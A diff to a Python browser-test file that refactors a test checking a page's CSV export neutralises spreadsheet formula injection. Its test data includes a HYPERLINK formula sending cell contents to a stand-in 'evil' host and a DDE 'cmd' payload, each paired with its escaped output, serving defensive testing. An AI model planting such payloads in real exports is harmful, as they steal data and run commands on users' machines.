@@ -169,29 +169,26 @@ def test_a_table_is_downloaded_as_csv(opened: Opened) -> None:
     assert len({len(row) for row in (heading, *rows)}) == 1
 
 
-@pytest.mark.parametrize(
-    ("cell", "written"),
-    [
-        (
-            '=HYPERLINK("http://evil/?"&A2,"click")',
-            '"\'=HYPERLINK(""http://evil/?""&A2,""click"")"',
-        ),
-        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("+0.20..+0.95", "'+0.20..+0.95"),
-        ("-0.25", "-0.25"),
-        ("+1e-3", "+1e-3"),
-        ("a-b", "a-b"),
-        ("a\rb", '"a\rb"'),
-    ],
-)
-def test_no_cell_of_the_csv_is_a_formula(opened: Opened, cell: str, written: str) -> None:
+WRITTEN = {
+    '=HYPERLINK("http://evil/?"&A2,"click")': '"\'=HYPERLINK(""http://evil/?""&A2,""click"")"',
+    "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
+    "@SUM(A1)": "'@SUM(A1)",
+    "+0.20..+0.95": "'+0.20..+0.95",
+    "-0.25": "-0.25",
+    "+1e-3": "+1e-3",
+    "a-b": "a-b",
+    "a\rb": '"a\rb"',
+}
+
+
+def test_no_cell_of_the_csv_is_a_formula(opened: Opened) -> None:
     make = """text => {
       const table = document.createElement("table");
       table.insertRow().insertCell().dataset.value = text;
       return asCsv(table);
     }"""
-    assert opened.page.evaluate(make, cell) == f"{written}\n"
+    for cell, written in WRITTEN.items():
+        assert opened.page.evaluate(make, cell) == f"{written}\n"
 
 
 def test_the_page_is_dark_where_the_reader_wants_it(browser: Browser, report: Path) -> None:
